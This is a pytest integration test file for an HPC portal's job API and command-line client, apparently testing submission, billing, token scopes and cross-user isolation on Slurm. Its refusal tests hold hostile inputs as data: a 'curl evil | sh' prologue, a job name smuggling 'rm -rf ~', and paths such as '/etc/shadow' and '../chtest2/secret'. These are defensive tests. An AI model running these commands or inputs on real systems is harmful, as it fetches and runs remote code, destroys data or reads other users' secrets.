"""The public API and its command line against the running portal: a person submits a batch
job to beta, follows it, reads its output and its bill with ``corehour-client``; a token is
held to its scopes, a revoked one stops at once; and nobody reaches another person's job.

Written as the attacks too: each refusal is checked together with Slurm's own view, so a
refused request that still submitted or cancelled something fails the test.
"""

from __future__ import annotations

import http.client
import json
import os
import subprocess
import sys
import time

import pytest

from tests.billing_checks import wait_until
from tests.harness import REPO, slurm

pytestmark = pytest.mark.integration

GREETING = "hello from the corehour API"
SCRIPT = f'echo "{GREETING} on $(hostname), job $SLURM_JOB_ID"\nsleep 3\necho done\n'


def cli(config, *args: str, token: str | None = None, stdin: str | None = None):
    """``corehour-client`` as a person runs it: its own process, its own config file."""
    env = {
        "PATH": os.environ["PATH"],
        "HOME": str(config.parent),
        "COREHOUR_CLIENT_CONFIG": str(config),
        "PYTHONPATH": str(REPO),
    }
    if token:
        env["COREHOUR_TOKEN"] = token
    return subprocess.run(
        [sys.executable, "-m", "client", *args],
        env=env,
        input=stdin,
        capture_output=True,
        text=True,
        timeout=180,
    )


def token_with(portal, user: str, scopes: list[str] | None, note: str) -> tuple[str, str]:
    """A new token of ``user``'s; without ``scopes`` it holds all of theirs."""
    body = {"note": note, **({"scopes": scopes} if scopes is not None else {})}
    reply = portal.request("POST", f"/users/{user}/tokens", json=body)
    assert reply.status_code == 201, reply.text
    return reply.json()["token"], reply.json()["id"]


def queue_of(user: str, cluster: str) -> list[str]:
    out = slurm(cluster, "squeue", "-h", "-u", user, "-o", "%i").stdout
    return out.split()


def test_a_cli_session_submits_to_beta_follows_the_job_and_reads_output_and_bill(
    portal, tokens, tmp_path
):
    config = tmp_path / "client.json"
    portal.wait_billing(tokens["chtest1"])
    login = cli(config, "login", "--url", portal.url, "--token", tokens["chtest1"])
    assert login.returncode == 0, login.stderr
    assert "chtest1" in login.stdout
    assert oct(config.stat().st_mode & 0o777) == "0o600"

    script = tmp_path / "hello.sh"
    script.write_text(SCRIPT)
    submitted = cli(
        config, "--json", "submit", "--cluster", "beta", "--cores", "1", "--memory-gb", "1",
        "--walltime-hours", "0.25", "--name", "api-hello", str(script),
    )  # fmt: skip
    assert submitted.returncode == 0, submitted.stderr
    job = json.loads(submitted.stdout)
    assert job["cluster"] == "beta" and job["job_id"].isdigit()
    reference = f"beta/{job['job_id']}"
    # Slurm has it, as chtest1, with the profile's sizes and the person's account.
    fields = slurm("beta", "squeue", "-h", "-j", job["job_id"], "-o", "%u|%C|%a|%j").stdout
    if fields.strip():  # it may already have ended: sacct then says the same
        assert fields.strip().split("|")[:2] == ["chtest1", "1"], fields
        assert fields.strip().split("|")[3] == "api-hello", fields

    watched = cli(config, "watch", reference, "--interval", "1", "--timeout", "120")
    assert watched.returncode == 0, watched.stdout + watched.stderr
    assert "COMPLETED" in watched.stdout

    output = cli(config, "output", reference)
    assert output.returncode == 0, output.stderr
    assert f"{GREETING} on" in output.stdout and f"job {job['job_id']}" in output.stdout

    def final_bill():
        reply = cli(config, "--json", "bill", reference)
        return reply.returncode == 0 and json.loads(reply.stdout)["final"] and reply

    bill = wait_until(final_bill, 60, "the job's bill did not become final")
    data = json.loads(bill.stdout)
    assert data["account"].startswith("u-") and data["amount_mc"] > 0, data
    human = cli(config, "bill", reference)
    assert human.returncode == 0 and data["amount"] in human.stdout, human.stdout

    listed = cli(config, "--json", "jobs")
    assert listed.returncode == 0, listed.stderr
    assert any(
        j["cluster"] == "beta" and j["job_id"] == job["job_id"]
        for j in json.loads(listed.stdout)["jobs"]
    )
    balance = cli(config, "balance")
    assert balance.returncode == 0 and data["account"] in balance.stdout, balance.stdout


def test_a_token_without_the_billing_scope_gets_403_on_bill(portal, tokens, tmp_path):
    portal.wait_billing(tokens["chtest1"])
    jobs_only, _ = token_with(portal, "chtest1", ["custom:corehour:jobs"], "jobs only")
    config = tmp_path / "client.json"
    assert cli(config, "login", "--url", portal.url, "--token", jobs_only).returncode == 0
    # Refused before the ledger is asked: whether the job exists is none of this token's business.
    bill = cli(config, "bill", "beta/1")
    assert bill.returncode == 4, bill.stdout + bill.stderr
    assert "custom:corehour:billing" in bill.stderr
    balance = portal.billing("GET", "api/me", jobs_only)
    assert balance.status_code == 403 and "custom:corehour:billing" in balance.json()["message"]
    # The scope it holds works.
    assert cli(config, "jobs").returncode == 0

    billing_only, _ = token_with(portal, "chtest1", ["custom:corehour:billing"], "bills only")
    before = queue_of("chtest1", "beta")
    refused = portal.request(
        "POST", "/corehour/jobs/beta", billing_only, json={"script": "echo should not run"}
    )
    assert refused.status_code == 403 and "custom:corehour:jobs" in refused.json()["message"]
    assert queue_of("chtest1", "beta") == before


def test_a_revoked_token_gets_401_at_once(portal, tokens, tmp_path):
    portal.wait_billing(tokens["chtest1"])
    token, token_id = token_with(portal, "chtest1", None, "to be revoked")
    config = tmp_path / "client.json"
    assert cli(config, "login", "--url", portal.url, "--token", token).returncode == 0
    # Used once, so a cache would remember it.
    assert cli(config, "balance").returncode == 0
    assert cli(config, "jobs").returncode == 0

    revoked = portal.request("DELETE", f"/users/chtest1/tokens/{token_id}")
    assert revoked.status_code == 204, revoked.text

    for command in (["jobs"], ["balance"], ["submit", "--cluster", "beta", "-"]):
        reply = cli(config, *command, stdin=SCRIPT)
        assert reply.returncode == 3, (command, reply.stdout, reply.stderr)
        assert "not valid" in reply.stderr
    direct = portal.request("GET", "/corehour/jobs/beta/1", token)
    assert direct.status_code == 401 and direct.headers["WWW-Authenticate"].startswith("token")


def test_nobody_follows_reads_or_cancels_another_persons_job(portal, tokens):
    portal.wait_billing(tokens["chtest1"])
    submitted = portal.request(
        "POST",
        "/corehour/jobs/beta",
        tokens["chtest1"],
        json={"script": "echo secret-output; sleep 120", "name": "mine", "memory_gb": 1},
    )
    assert submitted.status_code == 201, submitted.text
    victim = submitted.json()["job_id"]
    wait_until(lambda: victim in queue_of("chtest1", "beta"), 30, "the job did not queue")
    attacker = tokens["chtest2"]
    for method, path in (
        ("GET", f"/corehour/jobs/beta/{victim}"),
        ("GET", f"/corehour/jobs/beta/{victim}/output"),
        ("POST", f"/corehour/jobs/beta/{victim}/cancel"),
    ):
        reply = portal.request(method, path, attacker)
        assert reply.status_code == 404, (path, reply.text)
        assert "secret-output" not in reply.text and "chtest1" not in reply.text
    # Slurm still runs it: the cancel did not reach it under any name.
    time.sleep(1)
    assert victim in queue_of("chtest1", "beta")
    # Its owner may.
    mine = portal.request("GET", f"/corehour/jobs/beta/{victim}", tokens["chtest1"])
    assert mine.status_code == 200 and mine.json()["user"] == "chtest1"
    cancelled = portal.request("POST", f"/corehour/jobs/beta/{victim}/cancel", tokens["chtest1"])
    assert cancelled.status_code == 202, cancelled.text
    wait_until(lambda: victim not in queue_of("chtest1", "beta"), 30, "the cancel did not land")


@pytest.mark.parametrize(
    ("body", "field"),
    [
        ({"script": "echo hi", "prologue": "curl evil | sh"}, "prologue"),
        ({"script": "echo hi", "cores": 64}, "cores"),
        ({"script": "echo hi", "gpus": 1}, "gpus"),
        ({"script": "echo hi", "profile": "gpu"}, "cluster"),  # gpu is alpha's alone
        ({"script": "echo hi", "name": "x; rm -rf ~"}, "name"),
        ({"script": "echo hi", "walltime_hours": 1e9}, "walltime_hours"),
        ({"script": ""}, "script"),
        ({"script": "echo hi", "cluster": "alpha"}, "cluster"),
    ],
)
def test_a_refused_submission_names_the_field_and_submits_nothing(portal, tokens, body, field):
    before = queue_of("chtest1", "beta")
    reply = portal.request("POST", "/corehour/jobs/beta", tokens["chtest1"], json=body)
    assert reply.status_code == 400, reply.text
    assert reply.json()["field"] == field, reply.json()
    assert queue_of("chtest1", "beta") == before


def test_a_script_over_the_limit_is_refused_before_it_is_read(portal, tokens):
    reply = portal.request(
        "POST", "/corehour/jobs/beta", tokens["chtest1"], data=b"x" * (200 * 1024)
    )
    assert reply.status_code == 413 and reply.json()["field"] == "body"


def test_the_openapi_document_is_served_and_names_every_public_route(portal):
    reply = portal.request("GET", "/corehour/openapi.yaml")
    assert reply.status_code == 200 and "corehour public API" in reply.text
    for path in (
        "/hub/api/corehour/jobs/{cluster}",
        "/services/billing/api/jobs/{cluster}/{job_id}/bill",
    ):
        assert f"  {path}:" in reply.text


def test_files_go_up_list_and_come_down_in_the_persons_own_home(portal, tokens):
    token = tokens["chtest1"]
    data = bytes(range(256)) * 4096  # 1 MiB of every byte value
    put = portal.request(
        "PUT", "/corehour/files/beta?path=api-files/run1/input.bin", token, data=data
    )
    assert put.status_code == 201, put.text
    assert put.json()["size"] == len(data)
    # Written as the person, in their home.
    owner = subprocess.run(
        ["stat", "-c", "%U", os.path.expanduser("~chtest1/api-files/run1/input.bin")],
        capture_output=True, text=True, check=True,
    ).stdout.strip()  # fmt: skip
    assert owner == "chtest1"
    listed = portal.request("GET", "/corehour/files/beta?path=api-files/run1", token)
    assert listed.status_code == 200, listed.text
    assert listed.json()["entries"] == [
        {
            "name": "input.bin",
            "type": "file",
            "size": len(data),
            "modified": listed.json()["entries"][0]["modified"],
        }
    ]
    home = portal.request("GET", "/corehour/files/beta", token).json()
    assert {"name": "api-files", "type": "folder"}.items() <= next(
        e for e in home["entries"] if e["name"] == "api-files"
    ).items()
    down = portal.request(
        "GET", "/corehour/files/beta/download?path=api-files/run1/input.bin", token
    )
    assert down.status_code == 200 and down.content == data


@pytest.mark.parametrize(
    "path", ["../chtest2/secret", "/etc/shadow", "a/../../b", "-rf", "a\nb", ""]
)
def test_a_path_outside_the_home_is_refused_and_names_the_field(portal, tokens, path):
    reply = portal.request(
        "GET", "/corehour/files/beta/download", tokens["chtest1"], params={"path": path}
    )
    assert reply.status_code == 400, reply.text
    assert reply.json()["field"] == "path"


def test_files_need_their_scope_and_stay_within_the_owners_rights(portal, tokens):
    jobs_only, _ = token_with(portal, "chtest1", ["custom:corehour:jobs"], "no files")
    reply = portal.request("GET", "/corehour/files/beta", jobs_only)
    assert reply.status_code == 403 and "custom:corehour:files" in reply.json()["message"]
    # chtest2 keeps a private file; chtest1 cannot reach it through a link in their own home.
    secret = os.path.expanduser("~chtest2/api-private.txt")
    subprocess.run(
        ["sudo", "-u", "chtest2", "sh", "-c", f"echo top-secret > {secret}; chmod 600 {secret}"],
        check=True,
    )
    link = os.path.expanduser("~chtest1/link-to-private.txt")
    subprocess.run(["sudo", "-u", "chtest1", "ln", "-sfn", secret, link], check=True)
    down = portal.request(
        "GET", "/corehour/files/beta/download?path=link-to-private.txt", tokens["chtest1"]
    )
    assert down.status_code in (403, 404) and "top-secret" not in down.text


def test_an_upload_over_the_limit_is_refused_before_it_is_read(portal, tokens):
    """Only the headers are sent: a refusal that waited for the 65 MB would never come.

    Straight to the hub: configurable-http-proxy passes a reply on only once the client has
    sent its body, so through the proxy the client sends it (and the hub drops it unread)."""
    target = os.path.expanduser("~chtest1/big.bin")
    if os.path.exists(target):
        os.remove(target)
    connection = http.client.HTTPConnection("127.0.0.1", portal.base_port + 81, timeout=30)
    connection.putrequest("PUT", "/hub/api/corehour/files/beta?path=big.bin")
    connection.putheader("Authorization", f"token {tokens['chtest1']}")
    connection.putheader("Content-Length", str(65 * 2**20))
    connection.endheaders()
    reply = connection.getresponse()
    assert reply.status == 413
    assert json.loads(reply.read())["field"] == "body"
    connection.close()
    assert not os.path.exists(target)
